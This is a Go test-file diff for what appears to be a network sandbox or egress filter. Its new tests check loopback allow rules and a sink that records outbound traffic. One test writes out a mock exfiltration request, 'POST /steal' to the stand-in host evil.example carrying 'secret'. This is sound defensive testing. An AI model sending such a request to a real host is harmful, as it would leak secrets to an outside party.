@@ -395,6 +395,95 @@ func TestPrivate(t *testing.T) {
 	}
 }
 
+// TestLoopback has connections to the box's own loopback address, which lead to this machine's where it is listed and private ones are allowed.
+func TestLoopback(t *testing.T) {
+	listener, err := new(net.ListenConfig).Listen(t.Context(), "tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = listener.Close() })
+	port, here := uint16(listener.Addr().(*net.TCPAddr).Port), netip.MustParseAddr("127.0.0.1")
+	tests := []struct {
+		host, private, want string
+	}{
+		{"localhost", "localhost", ""},
+		{"127.0.0.1", "127.0.0.0/8", ""},
+		{"localhost", "", "is not a public address"},
+		{"example.com", "127.0.0.0/8", "an address that no name has"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.host+" "+tt.private, func(t *testing.T) {
+			o := Options{Hosts: []string{fmt.Sprintf("%s:%d", tt.host, port)}}
+			if tt.private != "" {
+				o.Private = []string{tt.private}
+			}
+			s := open(t, o, "")
+			if tt.want != "" {
+				if err := s.fails(t, here, port, nil); err != nil || len(s.told()) != 1 || !strings.Contains(s.told()[0], tt.want) {
+					t.Errorf("%v, told %q", err, s.told())
+				}
+				return
+			}
+			conn := s.connect(t, here, port)
+			server, err := listener.Accept()
+			if err != nil {
+				t.Fatal(err)
+			}
+			_ = server.Close()
+			if _, err := ends(t, conn); err != nil || len(s.told()) > 0 {
+				t.Errorf("it ends with %v, told %q", err, s.told())
+			}
+		})
+	}
+}
+
+// TestSink has a network that takes everything and leads nowhere.
+func TestSink(t *testing.T) {
+	var mu sync.Mutex
+	var seen []string
+	visited := make(chan struct{}, 16)
+	s := open(t, Options{Sink: func(v Visit) {
+		mu.Lock()
+		defer mu.Unlock()
+		seen = append(seen, fmt.Sprintf("%s%s %s %d", v.Name, v.Host, v.What, len(v.Sent)))
+		visited <- struct{}{}
+	}}, "127.0.0.1:1")
+	addr := s.address(t, "evil.example")
+	request := "POST /steal HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 6\r\n\r\nsecret"
+	conn := s.connect(t, addr, 80)
+	if _, err := io.WriteString(conn, request); err != nil {
+		t.Fatal(err)
+	}
+	if read, err := ends(t, conn); err != nil || !strings.HasPrefix(read, "HTTP/1.1 200 OK\r\n") {
+		t.Errorf("the answer is %q, %v", read, err)
+	}
+	raw := hello(t, "evil.example")
+	for _, say := range [][]byte{raw, []byte("raw bytes\n")} {
+		conn := s.connect(t, netip.MustParseAddr("1.2.3.4"), 443)
+		if _, err := conn.Write(say); err != nil {
+			t.Fatal(err)
+		}
+		_ = conn.CloseWrite()
+		if read, err := ends(t, conn); err != nil && read != "" {
+			t.Errorf("the answer is %q, %v", read, err)
+		}
+	}
+	for range 4 {
+		<-visited
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	want := []string{
+		"evil.example  0", fmt.Sprintf("evil.example:80 POST /steal %d", len(request)), fmt.Sprintf("1.2.3.4:443 TLS for evil.example %d", len(raw)), "1.2.3.4:443 10 bytes 10",
+	}
+	if diff := gocmp.Diff(want, seen); diff != "" {
+		t.Errorf("seen (-want +got):\n%s", diff)
+	}
+	if told := s.told(); len(told) > 0 {
+		t.Errorf("refusals are told: %q", told)
+	}
+}
+
 // TestHalfClose ends one direction; what the server then says still arrives. The server speaks first, as those of mail do.
 func TestHalfClose(t *testing.T) {
 	listener, err := new(net.ListenConfig).Listen(t.Context(), "tcp", "127.0.0.1:0")
